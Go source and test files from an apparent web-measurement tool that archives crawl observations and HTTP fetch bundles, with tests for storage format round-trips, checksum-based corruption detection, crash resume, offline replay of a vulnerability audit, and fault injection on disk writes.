			}},
		}
		if r.Intn(4) == 0 {
			o.WordPress = "5." + itoa(r.Intn(9))
		}
		cur[d] = o
	}
	var out []Observation
	for w := 0; w < weeks; w++ {
		for d := range cur {
			switch {
			case r.Intn(10) == 0: // library upgrade
				cur[d].Libs = []LibRecord{{
					Slug: "jquery", Version: "3." + itoa(r.Intn(7)) + ".0", Known: true,
				}}
			case r.Intn(25) == 0: // transient outage
				cur[d].Status = 503
				cur[d].Bytes = 0
				cur[d].HasJS = false
				cur[d].Libs = nil
			case cur[d].Status != 200 && r.Intn(2) == 0: // recovery
				cur[d].Status = 200
				cur[d].Bytes = 4096
				cur[d].HasJS = true
			}
			o := cur[d].Clone()
			o.Week = w
			out = append(out, o)
		}
	}
	return out
}

// TestDeltaRoundTripProperty: every observation written to a v3 store
// comes back exactly once at every segment count, with per-domain order
// intact, through the sequential, transparent, and parallel readers —
// for both churny random data (full/delta records dominate) and stable
// longitudinal data (same-records dominate).
func TestDeltaRoundTripProperty(t *testing.T) {
	shapes := map[string][]Observation{
		"churny":       genObs(23, 7),
		"longitudinal": genLongitudinal(31, 12, 7),
	}
	for shape, want := range shapes {
		wantBy := byDomain(want)
		for _, segments := range []int{1, 2, 4, 8} {
			dir := filepath.Join(t.TempDir(), shape+"-"+itoa(segments))
			w, err := CreateSegmentedWith(dir, segments, SegmentedOptions{Format: FormatDelta})
			if err != nil {
				t.Fatal(err)
			}
			for _, o := range want {
				if err := w.Write(o); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}

			man, err := ReadManifest(dir)
			if err != nil {
				t.Fatal(err)
			}
			if man.Version != ManifestVersionDelta || len(man.Members) != segments {
				t.Fatalf("%s segments=%d: manifest %+v", shape, segments, man)
			}
			for i := 0; i < segments; i++ {
				if f, err := sniffFormat(SegmentPath(dir, i)); err != nil || f != FormatDelta {
					t.Fatalf("%s segment %d: sniffed format %d, %v", shape, i, f, err)
				}
			}

			for name, read := range map[string]func(fn func(Observation) error) error{
				"ForEachSegmented": func(fn func(Observation) error) error { return ForEachSegmented(dir, fn) },
				"ForEach":          func(fn func(Observation) error) error { return ForEach(dir, fn) },
			} {
				var got []Observation
				if err := read(func(o Observation) error {
					got = append(got, o.Clone())
					return nil
				}); err != nil {
					t.Fatalf("%s segments=%d %s: %v", shape, segments, name, err)
				}
				checkSameByDomain(t, wantBy, byDomain(got))
			}

			var mu sync.Mutex
			gotBy := make(map[string][]Observation)
			if err := ForEachSegmentedParallel(dir, func(seg int, o Observation) error {
				c := o.Clone()
				mu.Lock()
				gotBy[c.Domain] = append(gotBy[c.Domain], c)
				mu.Unlock()
				return nil
			}); err != nil {
				t.Fatalf("%s segments=%d parallel: %v", shape, segments, err)
			}
			checkSameByDomain(t, wantBy, gotBy)

			if _, err := Verify(dir); err != nil {
				t.Fatalf("%s segments=%d: verify: %v", shape, segments, err)
			}
		}
	}
}

// TestDeltaFastPathFallbacks: inputs the '~' inline record cannot carry —
// newline/CR bytes in the domain, negative or absurd week numbers — must
// fall back to full records and still round-trip exactly.
func TestDeltaFastPathFallbacks(t *testing.T) {
	base := Observation{Status: 200, Bytes: 4096, HasJS: true,
		Libs: []LibRecord{{Slug: "jquery", Version: "1.12.4", Known: true}}}
	var want []Observation
	for w := 0; w < 3; w++ {
		for _, d := range []string{"evil\nsite.example", "cr\rsite.example", "plain.example"} {
			o := base.Clone()
			o.Domain, o.Week = d, w
			want = append(want, o)
		}
		// Weeks the inline parser refuses: negative and past the cap.
		for _, wk := range []int{-1, 1 << 31} {
			o := base.Clone()
			o.Domain, o.Week = "odd-week.example", wk
			want = append(want, o)
		}
	}

	dir := filepath.Join(t.TempDir(), "store")
	w, err := CreateSegmentedWith(dir, 1, SegmentedOptions{Format: FormatDelta})
	if err != nil {
		t.Fatal(err)
	}
	for _, o := range want {
		if err := w.Write(o); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	var got []Observation
	if err := ForEach(dir, func(o Observation) error {
		got = append(got, o.Clone())
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	checkSameByDomain(t, byDomain(want), byDomain(got))
}

// TestDeltaMemberChecksumDetectsBitFlip: a flipped byte in a committed
// member must fail Verify with a checksum mismatch, and a checkpoint
// salvage must refuse to restore over it rather than decode corrupt data.
// The flip lands in the gzip header's mtime field (offset 4) — a spot the
// format's own CRC32 does NOT cover, so only the raw-byte member table
// can catch it.
func TestDeltaMemberChecksumDetectsBitFlip(t *testing.T) {
	obs := genLongitudinal(12, 5, 3)
	weeks := byWeek(obs, 5)
	run := RunID{Seed: 3, Domains: 12, Weeks: 5}

	build := func(dir string, close bool) {
		t.Helper()
		w, err := CreateSegmentedWith(dir, 2, SegmentedOptions{Checkpoint: true, Run: run})
		if err != nil {
			t.Fatal(err)
		}
		for wk, week := range weeks {
			for _, o := range week {
				if err := w.Write(o); err != nil {
					t.Fatal(err)
				}
			}
			if err := w.CommitWeek(wk); err != nil {
				t.Fatal(err)
			}
		}
		if close {
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
		} else if err := w.Abort(); err != nil {
			t.Fatal(err)
		}
	}
	flip := func(path string, off int64) {
		t.Helper()
		f, err := os.OpenFile(path, os.O_RDWR, 0)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		b := make([]byte, 1)
		if _, err := f.ReadAt(b, off); err != nil {
			t.Fatal(err)
		}
		b[0] ^= 0x40
		if _, err := f.WriteAt(b, off); err != nil {
			t.Fatal(err)
		}
	}

	// Closed store: Verify catches the flip via the manifest member table.
	dir := filepath.Join(t.TempDir(), "closed")
	build(dir, true)
	if _, err := Verify(dir); err != nil {
		t.Fatalf("pristine store fails verify: %v", err)
	}
	flip(SegmentPath(dir, 0), 4)
	if _, err := Verify(dir); err == nil || !strings.Contains(err.Error(), "checksum mismatch") {
		t.Fatalf("verify after bit flip: %v", err)
	}

	// Crashed store: salvage must refuse a corrupt committed member.
	dir2 := filepath.Join(t.TempDir(), "crashed")
	build(dir2, false)
	flip(SegmentPath(dir2, 0), 4)
	if _, err := Salvage(dir2); err == nil || !strings.Contains(err.Error(), "committed member corrupt") {
		t.Fatalf("salvage over corrupt committed member: %v", err)
	}

	// verifyMemberTable directly: the pristine sibling passes, and the
	// flipped file names the failing member.
	ck, err := ReadCheckpoint(dir2)
	if err != nil {
		t.Fatal(err)
	}
	if err := verifyMemberTable(SegmentPath(dir2, 1), ck.Members[1]); err != nil {
		t.Fatalf("intact segment fails member verify: %v", err)
	}
	if err := verifyMemberTable(SegmentPath(dir2, 0), ck.Members[0]); err == nil ||
		!strings.Contains(err.Error(), "checksum mismatch") {
		t.Fatalf("flipped segment passes member verify: %v", err)
	}
}

// TestFramedResumeStaysFramed: resuming a v2 store must keep writing v2 —
// the journal's format is authoritative, not the v3 default — and the
// finished archive must verify as a framed manifest.
func TestFramedResumeStaysFramed(t *testing.T) {
	obs := genObs(9, 4)
	weeks := byWeek(obs, 4)
	run := RunID{Seed: 8, Domains: 9, Weeks: 4}
	dir := filepath.Join(t.TempDir(), "store")
	opt := SegmentedOptions{Checkpoint: true, Run: run, Format: FormatFramed}
	w, err := CreateSegmentedWith(dir, 2, opt)
	if err != nil {
		t.Fatal(err)
	}
	for wk := 0; wk < 2; wk++ {
		for _, o := range weeks[wk] {
			if err := w.Write(o); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.CommitWeek(wk); err != nil {
			t.Fatal(err)
		}
	}
	_ = w.Abort()

	// Resume with default options: the journal, not the default, decides.
	w2, ck, err := ResumeSegmented(dir, SegmentedOptions{Checkpoint: true, Run: run})
	if err != nil {
		t.Fatal(err)
	}
	if ck.Format != FormatFramed {
		t.Fatalf("resumed checkpoint format %d, want framed", ck.Format)
	}
	for wk := 2; wk < 4; wk++ {
		for _, o := range weeks[wk] {
			if err := w2.Write(o); err != nil {
				t.Fatal(err)
			}
		}
		if err := w2.CommitWeek(wk); err != nil {
			t.Fatal(err)
		}
	}
	if err := w2.Close(); err != nil {
		t.Fatal(err)
	}

	man, err := ReadManifest(dir)
	if err != nil {
		t.Fatal(err)
	}
	if man.Version != ManifestVersionFramed {
		t.Fatalf("manifest version %d after framed resume, want %d", man.Version, ManifestVersionFramed)
	}
	for i := 0; i < 2; i++ {
		if f, err := sniffFormat(SegmentPath(dir, i)); err != nil || f != FormatFramed {
			t.Fatalf("segment %d: sniffed format %d, %v", i, f, err)
		}
	}
	var got []Observation
	if err := ForEachSegmented(dir, func(o Observation) error {
		got = append(got, o.Clone())
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	checkSameByDomain(t, byDomain(obs), byDomain(got))
	if _, err := Verify(dir); err != nil {
		t.Fatalf("framed resumed archive fails verify: %v", err)
	}
}

func dirSize(t *testing.T, dir string) int64 {
	t.Helper()
	var total int64
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		info, err := e.Info()
		if err != nil {
			t.Fatal(err)
		}
		total += info.Size()
	}
	return total
}

// TestDeltaArchiveSmallerThanV1AndV2: on longitudinal data — the workload
// the store exists for — the v3 archive must be smaller than both the v1
// plain-JSONL archive and the v2 framed archive. This is the size
// acceptance the format change is justified by.
func TestDeltaArchiveSmallerThanV1AndV2(t *testing.T) {
	obs := genLongitudinal(200, 50, 42)
	root := t.TempDir()

	v1 := filepath.Join(root, "v1")
	writeV1Store(t, v1, obs, 2)

	sizes := map[int]int64{FormatPlain: dirSize(t, v1)}
	for _, format := range []int{FormatFramed, FormatDelta} {
		dir := filepath.Join(root, "v"+itoa(format))
		w, err := CreateSegmentedWith(dir, 2, SegmentedOptions{Format: format})
		if err != nil {
			t.Fatal(err)
		}
		for _, o := range obs {
			if err := w.Write(o); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		sizes[format] = dirSize(t, dir)
	}
	t.Logf("archive bytes for %d obs: v1=%d v2=%d v3=%d",
		len(obs), sizes[FormatPlain], sizes[FormatFramed], sizes[FormatDelta])
	if sizes[FormatDelta] >= sizes[FormatPlain] {
		t.Errorf("v3 archive (%d bytes) not smaller than v1 (%d bytes)",
			sizes[FormatDelta], sizes[FormatPlain])
	}
	if sizes[FormatDelta] >= sizes[FormatFramed] {
		t.Errorf("v3 archive (%d bytes) not smaller than v2 (%d bytes)",
			sizes[FormatDelta], sizes[FormatFramed])
	}
}

// TestMixedVersionReads: one observation set written as a v1 single file,
// a v1 segmented dir, a v2 segmented dir, and a v3 segmented dir must read
// back identically through the transparent entry points.
func TestMixedVersionReads(t *testing.T) {
	obs := genObs(14, 5)
	wantBy := byDomain(obs)
	root := t.TempDir()

	single := filepath.Join(root, "single.jsonl.gz")
	w, err := Create(single)
	if err != nil {
		t.Fatal(err)
	}
	for _, o := range obs {
		if err := w.Write(o); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}

	v1dir := filepath.Join(root, "v1")
	writeV1Store(t, v1dir, obs, 3)
	dirs := map[string]string{"v1-file": single, "v1-dir": v1dir}
	for _, format := range []int{FormatFramed, FormatDelta} {
		dir := filepath.Join(root, "v"+itoa(format))
		sw, err := CreateSegmentedWith(dir, 3, SegmentedOptions{Format: format})
		if err != nil {
			t.Fatal(err)
		}
		for _, o := range obs {
			if err := sw.Write(o); err != nil {
				t.Fatal(err)
			}
		}
		if err := sw.Close(); err != nil {
			t.Fatal(err)
		}
		dirs["v"+itoa(format)+"-dir"] = dir
	}

	for name, path := range dirs {
		var got []Observation
		if err := ForEach(path, func(o Observation) error {
			got = append(got, o.Clone())
			return nil
		}); err != nil {
			t.Fatalf("%s: ForEach: %v", name, err)
		}
		checkSameByDomain(t, wantBy, byDomain(got))

		all, err := ReadAll(path)
		if err != nil {
			t.Fatalf("%s: ReadAll: %v", name, err)
		}
		checkSameByDomain(t, wantBy, byDomain(all))
	}
}
