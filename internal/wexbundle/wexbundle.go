// Package wexbundle records and replays web-execution bundles.
//
// A bundle is the re-auditable artifact a crawl today throws away: every
// fetched response — landing page and same-site scripts — archived raw
// (body bytes, response headers, status, coarse timing) per (domain,
// week), so that every downstream stage can re-run *from the archive*
// years later with a newer vulndb or a fixed fingerprinter and zero
// network (PAPERS.md "Web Execution Bundles: Reproducible, Accurate, and
// Archivable Web Measurements").
//
// Storage rides on the segmented store's v4 bundle format: records are
// '!'-marked JSON lines partitioned across segments by the same FNV-1a
// domain hash as observations, with the full v3 crash-safety machinery —
// member-level checksums, week-granular checkpoint/commit, resume after a
// kill without re-fetching committed weeks, and salvage.
//
// The record/replay seam is the crawler's transport: RecordingTransport
// wraps the real http.RoundTripper and archives every exchange;
// Bundle.Transport serves a mounted bundle and has no inner transport at
// all, so a replayed run cannot touch the network even by accident.
package wexbundle

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"clientres/internal/store"
)

// MetaName is the bundle metadata file inside a bundle directory.
const MetaName = "bundle.json"

// Meta is the run identity a bundle carries so replay tooling (cmd/analyze
// -bundle) can reconstruct the recorded run's configuration without the
// operator re-supplying it.
type Meta struct {
	Version int   `json:"version"`
	Domains int   `json:"domains,omitempty"`
	Weeks   int   `json:"weeks,omitempty"`
	Seed    int64 `json:"seed,omitempty"`
	// BundleScan records whether the crawl fetched same-site scripts for
	// content fingerprinting; a replay must do the same to request the
	// same URLs.
	BundleScan bool `json:"bundle_scan,omitempty"`
}

// MetaVersion is the bundle.json format version this package writes.
const MetaVersion = 1

// Record is one archived fetch. Report-affecting state is Status and Body
// (exactly what the crawler hands the observation builder); Header and
// DurUS are evidence for later forensics, and Err preserves connection or
// mid-body failures so a replay reproduces them faithfully.
type Record struct {
	Week   int    `json:"week"`
	Domain string `json:"domain"`
	// Key is the replay-index key (see Key): the URL path for crawl-web
	// fetches, host+path for external URL audits.
	Key string `json:"key"`
	// Status is the HTTP status; 0 records a connection-level failure.
	Status int `json:"status,omitempty"`
	// Err preserves the fetch error verbatim: with Status 0 a failure
	// before any response, otherwise a mid-body read error after the
	// recorded Body prefix.
	Err    string      `json:"err,omitempty"`
	Header http.Header `json:"header,omitempty"`
	// Body is the raw response body. JSON strings require valid UTF-8 —
	// true of everything the study's web serves; binary assets would need
	// an encoding this format does not yet define.
	Body  string `json:"body,omitempty"`
	DurUS int64  `json:"dur_us,omitempty"`
}

// IsPage reports whether a record is a landing-page fetch of the crawled
// web (as opposed to a script asset or an external URL audit).
func (r Record) IsPage() bool {
	return strings.HasPrefix(r.Key, "/w/") && strings.HasSuffix(r.Key, "/")
}

// Key derives a record's replay-index key from a request URL. Crawl-web
// URLs — whose path is webserver's /w/{week}/{domain}/... scheme — key by
// path alone, so a bundle recorded against one loopback port replays
// against any base URL. Everything else (the audit service's external
// {"url":...} fetches) keys by host+path(+query).
func Key(u *url.URL) string {
	if strings.HasPrefix(u.Path, "/w/") {
		return u.Path
	}
	k := u.Host + u.Path
	if u.RawQuery != "" {
		k += "?" + u.RawQuery
	}
	return k
}

// splitKey recovers the (week, domain) a key belongs to: parsed from the
// /w/{week}/{domain}/... path for crawl-web keys, else week 0 with the
// request host as the domain (matching crawler.FetchURL's convention).
func splitKey(key, host string) (week int, domain string) {
	rest, ok := strings.CutPrefix(key, "/w/")
	if ok {
		if i := strings.IndexByte(rest, '/'); i > 0 {
			if w, err := strconv.Atoi(rest[:i]); err == nil {
				rest = rest[i+1:]
				if j := strings.IndexByte(rest, '/'); j > 0 {
					return w, rest[:j]
				}
			}
		}
	}
	return 0, host
}

// Options parameterizes a bundle writer.
type Options struct {
	// Segments is the segment-file count (min 1); record mode mirrors the
	// observation store's segment count so both archives shard alike.
	Segments int
	// Checkpoint enables the week-granular durability journal; CommitWeek
	// requires it.
	Checkpoint bool
	// Run is the identity stamped into the journal; Resume refuses a
	// checkpoint stamped by a different run.
	Run store.RunID
	// Meta is written to bundle.json at create time.
	Meta Meta
	// FS overrides the filesystem of the durable write path (nil = real);
	// the fault-injection tests substitute a failing one.
	FS store.FS
}

// Writer records fetches into a bundle directory. Append is safe for
// concurrent use (the segmented store locks per segment); CommitWeek and
// Close require the caller to quiesce appends, same as the store.
type Writer struct {
	sw  *store.SegmentedWriter
	dir string
}

// Create opens a new bundle directory for recording, clearing any residue
// of a previous run.
func Create(dir string, opt Options) (*Writer, error) {
	sw, err := store.CreateSegmentedWith(dir, opt.Segments, store.SegmentedOptions{
		Checkpoint: opt.Checkpoint,
		Run:        opt.Run,
		Format:     store.FormatBundle,
		FS:         opt.FS,
	})
	if err != nil {
		return nil, err
	}
	opt.Meta.Version = MetaVersion
	data, err := json.MarshalIndent(opt.Meta, "", "  ")
	if err == nil {
		err = store.AtomicWriteFile(opt.FS, filepath.Join(dir, MetaName), append(data, '\n'))
	}
	if err != nil {
		_ = sw.Abort()
		return nil, fmt.Errorf("wexbundle: %s: %w", dir, err)
	}
	return &Writer{sw: sw, dir: dir}, nil
}

// Resume reopens a checkpointed bundle at its last committed week,
// truncating any torn tail, and returns the checkpoint so the caller knows
// which weeks are already archived.
func Resume(dir string, opt Options) (*Writer, store.Checkpoint, error) {
	sw, ck, err := store.ResumeSegmented(dir, store.SegmentedOptions{Run: opt.Run, FS: opt.FS})
	if err != nil {
		return nil, store.Checkpoint{}, err
	}
	if ck.Format != store.FormatBundle {
		_ = sw.Abort()
		return nil, store.Checkpoint{}, fmt.Errorf("wexbundle: %s: not a bundle archive (store format v%d)", dir, ck.Format)
	}
	return &Writer{sw: sw, dir: dir}, ck, nil
}

// Append archives one record, routed to its domain's segment.
func (w *Writer) Append(rec Record) error {
	data, err := json.Marshal(rec)
	if err != nil {
		return fmt.Errorf("wexbundle: %w", err)
	}
	line := make([]byte, 0, len(data)+1)
	line = append(line, store.BundleMark)
	line = append(line, data...)
	return w.sw.WriteRaw(rec.Domain, line)
}

// Count returns the number of records appended (including any committed
// prefix a Resume carried forward).
func (w *Writer) Count() int { return w.sw.Count() }

// CommitWeek makes everything recorded through week durable. A week the
// bundle already committed is a no-op rather than an error: the bundle
// commits before the observation store each week, so after a crash between
// the two commits a resumed run legitimately re-commits the bundle's last
// week (its records were already durable; re-fetched duplicates supersede
// them in the replay index).
func (w *Writer) CommitWeek(week int) error {
	if week+1 <= w.sw.CommittedWeeks() {
		return nil
	}
	return w.sw.CommitWeek(week)
}

// Close commits the manifest, sealing the bundle for mounting.
func (w *Writer) Close() error { return w.sw.Close() }

// Abort closes without flushing or writing a manifest — the crash path;
// the last checkpoint stays authoritative for resume and salvage.
func (w *Writer) Abort() error { return w.sw.Abort() }

// ReadMeta loads a bundle's metadata file.
func ReadMeta(dir string) (Meta, error) {
	data, err := os.ReadFile(filepath.Join(dir, MetaName))
	if err != nil {
		return Meta{}, fmt.Errorf("wexbundle: %s: %w", dir, err)
	}
	var m Meta
	if err := json.Unmarshal(data, &m); err != nil {
		return Meta{}, fmt.Errorf("wexbundle: %s: corrupt %s: %w", dir, MetaName, err)
	}
	return m, nil
}
