package wexbundle

// The audit service's {"url": ...} fetch path, bundle-backed: cmd/serve
// -bundle wires service.Config.Fetch to a crawler whose transport is a
// mounted bundle's replay RoundTripper. This test proves the wiring
// end-to-end — record a URL audit live, shut the upstream down, and the
// service audits the same URL from the archive with identical findings
// and zero network.

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"clientres/internal/crawler"
	"clientres/internal/service"
)

const vulnerableAuditPage = `<!DOCTYPE html><html><head>
<script src="https://cdn.example/jquery/1.8.0/jquery.min.js"></script>
</head><body>hello</body></html>`

func auditURL(t *testing.T, s *service.Server, url string) (*httptest.ResponseRecorder, service.AuditResponse) {
	t.Helper()
	body := `{"url": "` + url + `"}`
	req := httptest.NewRequest("POST", "/v1/audit", strings.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	rec := httptest.NewRecorder()
	s.ServeHTTP(rec, req)
	var resp service.AuditResponse
	if rec.Code == http.StatusOK {
		if err := json.Unmarshal(rec.Body.Bytes(), &resp); err != nil {
			t.Fatalf("audit response: %v", err)
		}
	}
	return rec, resp
}

func fetchVia(cr *crawler.Crawler) func(context.Context, string) (int, string, error) {
	return func(ctx context.Context, url string) (int, string, error) {
		p := cr.FetchURL(ctx, url)
		return p.Status, p.Body, p.Err
	}
}

func TestServiceURLAuditFromBundle(t *testing.T) {
	upstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, vulnerableAuditPage)
	}))
	defer upstream.Close()

	// Record: the live audit fetch, archived through the recording
	// transport on the crawler's transport seam.
	dir := filepath.Join(t.TempDir(), "bundle")
	bw, err := Create(dir, Options{Segments: 1})
	if err != nil {
		t.Fatal(err)
	}
	liveCrawler := crawler.New(crawler.Config{
		Timeout: 5 * time.Second,
		WrapTransport: func(inner http.RoundTripper) http.RoundTripper {
			return &RecordingTransport{Inner: inner, W: bw}
		},
	})
	liveSrv := service.New(service.Config{Fetch: fetchVia(liveCrawler)})
	rec, liveResp := auditURL(t, liveSrv, upstream.URL+"/page")
	if rec.Code != http.StatusOK {
		t.Fatalf("live audit: status %d, body %s", rec.Code, rec.Body)
	}
	if len(liveResp.Findings) == 0 {
		t.Fatal("live audit of the vulnerable page found nothing")
	}
	if err := bw.Close(); err != nil {
		t.Fatal(err)
	}

	// Replay: upstream is gone; the bundle-backed service must reproduce
	// the audit exactly.
	upstream.Close()
	b, err := Mount(dir)
	if err != nil {
		t.Fatal(err)
	}
	replayCrawler := crawler.New(crawler.Config{
		Timeout:       5 * time.Second,
		WrapTransport: func(http.RoundTripper) http.RoundTripper { return b.Transport() },
	})
	replaySrv := service.New(service.Config{Fetch: fetchVia(replayCrawler)})
	rec, replayResp := auditURL(t, replaySrv, upstream.URL+"/page")
	if rec.Code != http.StatusOK {
		t.Fatalf("replayed audit: status %d, body %s", rec.Code, rec.Body)
	}
	if len(replayResp.Findings) != len(liveResp.Findings) {
		t.Fatalf("replayed audit found %d vulnerabilities, live found %d",
			len(replayResp.Findings), len(liveResp.Findings))
	}

	// A URL the bundle never recorded is a fetch error (502), not a live
	// fetch.
	rec, _ = auditURL(t, replaySrv, upstream.URL+"/never-recorded")
	if rec.Code != http.StatusBadGateway {
		t.Fatalf("unrecorded URL audit: status %d, want 502", rec.Code)
	}
}
