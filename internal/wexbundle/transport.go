// The crawler-transport seam: recording and replaying http.RoundTrippers.

package wexbundle

import (
	"errors"
	"fmt"
	"io"
	"net/http"
	"time"
)

// RecordingTransport wraps a real transport and archives every exchange —
// response or failure — before handing it to the crawler. Append errors
// fail the round trip: a recording that cannot keep its promise must stop
// the crawl, not silently produce a bundle with holes.
type RecordingTransport struct {
	Inner http.RoundTripper
	W     *Writer
}

// RoundTrip performs the inner request, archives the outcome, and returns
// a response whose body replays the captured bytes (including any mid-body
// error, at its recorded position), so the crawler sees exactly what was
// archived.
func (t *RecordingTransport) RoundTrip(req *http.Request) (*http.Response, error) {
	key := Key(req.URL)
	week, domain := splitKey(key, req.URL.Host)
	rec := Record{Week: week, Domain: domain, Key: key}
	start := time.Now()
	resp, err := t.Inner.RoundTrip(req)
	if err != nil {
		rec.Err = err.Error()
		rec.DurUS = time.Since(start).Microseconds()
		if aerr := t.W.Append(rec); aerr != nil {
			return nil, fmt.Errorf("wexbundle: record: %w", aerr)
		}
		return nil, err
	}
	body, rerr := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	rec.Status = resp.StatusCode
	rec.Header = resp.Header
	rec.Body = string(body)
	rec.DurUS = time.Since(start).Microseconds()
	if rerr != nil {
		rec.Err = rerr.Error()
	}
	if aerr := t.W.Append(rec); aerr != nil {
		return nil, fmt.Errorf("wexbundle: record: %w", aerr)
	}
	resp.Body = &replayBody{data: body, err: rerr}
	return resp, nil
}

// Transport returns the bundle's replay http.RoundTripper. It has no inner
// transport: a request the bundle did not record is an error, never a live
// fetch — the zero-network guarantee.
func (b *Bundle) Transport() http.RoundTripper { return &replayTransport{b: b} }

type replayTransport struct {
	b *Bundle
}

func (t *replayTransport) RoundTrip(req *http.Request) (*http.Response, error) {
	key := Key(req.URL)
	rec, ok := t.b.Get(key)
	if !ok {
		return nil, fmt.Errorf("wexbundle: %s: no record for %q (replay never touches the network)", t.b.dir, key)
	}
	if rec.Status == 0 {
		// A connection-level failure: replay it as one. http.Client wraps
		// transport errors in *url.Error, same as a live dial failure.
		return nil, errors.New(rec.Err)
	}
	var berr error
	if rec.Err != "" {
		berr = errors.New(rec.Err) // mid-body failure after the recorded prefix
	}
	hdr := make(http.Header, len(rec.Header))
	for k, v := range rec.Header {
		hdr[k] = append([]string(nil), v...)
	}
	return &http.Response{
		Status:        fmt.Sprintf("%d %s", rec.Status, http.StatusText(rec.Status)),
		StatusCode:    rec.Status,
		Proto:         "HTTP/1.1",
		ProtoMajor:    1,
		ProtoMinor:    1,
		Header:        hdr,
		Body:          &replayBody{data: []byte(rec.Body), err: berr},
		ContentLength: int64(len(rec.Body)),
		Request:       req,
	}, nil
}

// replayBody yields data, then err (or EOF) — reproducing a recorded body
// byte-for-byte including where a live read failed mid-stream.
type replayBody struct {
	data []byte
	off  int
	err  error
}

func (b *replayBody) Read(p []byte) (int, error) {
	if b.off < len(b.data) {
		n := copy(p, b.data[b.off:])
		b.off += n
		return n, nil
	}
	if b.err != nil {
		return 0, b.err
	}
	return 0, io.EOF
}

func (b *replayBody) Close() error { return nil }
