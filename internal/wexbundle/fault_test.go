package wexbundle

// Write-path fault injection for the bundle recorder: the store's errfs
// discipline applied to v4 archives. A byte-budget failing filesystem
// crashes the recording at deterministic points across the run — clean
// ENOSPC and torn short writes — and every crash point must leave the
// bundle either fully committed or salvageable to exactly its committed
// weeks: after store.Salvage, the archive mounts, verifies, and replays
// every record of every committed week.

import (
	"errors"
	"os"
	"path/filepath"
	"sync"
	"testing"

	"clientres/internal/store"
)

var errBudget = errors.New("injected: no space left on device")

// budgetFS wraps the real filesystem and fails the write that would exceed
// its byte budget — optionally persisting a torn prefix first.
type budgetFS struct {
	mu         sync.Mutex
	budget     int // -1 = unlimited
	shortWrite bool
	wrote      int
	faulted    bool
}

func (f *budgetFS) OpenFile(name string, flag int, perm os.FileMode) (store.File, error) {
	file, err := os.OpenFile(name, flag, perm)
	if err != nil {
		return nil, err
	}
	return &budgetFile{fs: f, File: file}, nil
}

func (f *budgetFS) Rename(oldpath, newpath string) error { return os.Rename(oldpath, newpath) }
func (f *budgetFS) Remove(name string) error             { return os.Remove(name) }

func (f *budgetFS) SyncDir(dir string) error {
	d, err := os.Open(dir)
	if err != nil {
		return err
	}
	err = d.Sync()
	if cerr := d.Close(); err == nil {
		err = cerr
	}
	return err
}

type budgetFile struct {
	fs *budgetFS
	*os.File
}

func (bf *budgetFile) Write(p []byte) (int, error) {
	bf.fs.mu.Lock()
	defer bf.fs.mu.Unlock()
	bf.fs.wrote += len(p)
	if bf.fs.budget < 0 {
		return bf.File.Write(p)
	}
	if len(p) <= bf.fs.budget {
		bf.fs.budget -= len(p)
		return bf.File.Write(p)
	}
	n := 0
	if bf.fs.shortWrite && bf.fs.budget > 0 {
		n, _ = bf.File.Write(p[:bf.fs.budget])
	}
	bf.fs.budget = 0
	bf.fs.faulted = true
	return n, errBudget
}

// faultRecords is the recording the sweep drives: 4 domains x 5 weeks,
// page + one script each, bodies long enough that every week writes real
// bytes.
func faultRecords() [][]Record {
	domains := []string{"a.example", "b.example", "c.example", "d.example"}
	weeks := make([][]Record, 5)
	for wk := range weeks {
		for _, dom := range domains {
			base := "/w/" + itoa(wk) + "/" + dom + "/"
			weeks[wk] = append(weeks[wk],
				Record{Week: wk, Domain: dom, Key: base, Status: 200,
					Body: "<html><script src=js/app.js></script>page of " + dom + " in week " + itoa(wk) + "</html>"},
				Record{Week: wk, Domain: dom, Key: base + "js/app.js", Status: 200,
					Body: "/* app bundle for " + dom + " week " + itoa(wk) + " */ function f(){return 42}"})
		}
	}
	return weeks
}

// recordUntilFault appends week by week until a fault aborts the writer,
// returning how many weeks committed.
func recordUntilFault(t *testing.T, dir string, fsys store.FS, weeks [][]Record, segments int, run store.RunID) (committed int) {
	t.Helper()
	w, err := Create(dir, Options{Segments: segments, Checkpoint: true, Run: run, FS: fsys,
		Meta: Meta{Domains: int(run.Domains), Weeks: int(run.Weeks), Seed: run.Seed}})
	if err != nil {
		return 0
	}
	for wk, recs := range weeks {
		for _, rec := range recs {
			if err := w.Append(rec); err != nil {
				_ = w.Abort()
				return committed
			}
		}
		if err := w.CommitWeek(wk); err != nil {
			_ = w.Abort()
			return committed
		}
		committed = wk + 1
	}
	if err := w.Close(); err != nil {
		_ = w.Abort()
		return committed
	}
	return committed
}

func TestFaultSweepCommitsOrSalvages(t *testing.T) {
	const segments = 3
	run := store.RunID{Seed: 31, Domains: 4, Weeks: 5}
	weeks := faultRecords()

	probe := &budgetFS{budget: -1}
	if got := recordUntilFault(t, filepath.Join(t.TempDir(), "probe"), probe, weeks, segments, run); got != 5 {
		t.Fatalf("fault-free recording committed %d weeks, want 5", got)
	}
	total := probe.wrote
	if total == 0 {
		t.Fatal("probe measured zero bytes")
	}

	for _, shortWrite := range []bool{false, true} {
		name := "enospc"
		if shortWrite {
			name = "short-write"
		}
		for _, frac := range []int{5, 20, 40, 60, 80, 95} {
			budget := total * frac / 100
			t.Run(name+"/"+itoa(frac)+"pct", func(t *testing.T) {
				fsys := &budgetFS{budget: budget, shortWrite: shortWrite}
				dir := filepath.Join(t.TempDir(), "bundle")
				committed := recordUntilFault(t, dir, fsys, weeks, segments, run)
				if !fsys.faulted && committed < 5 {
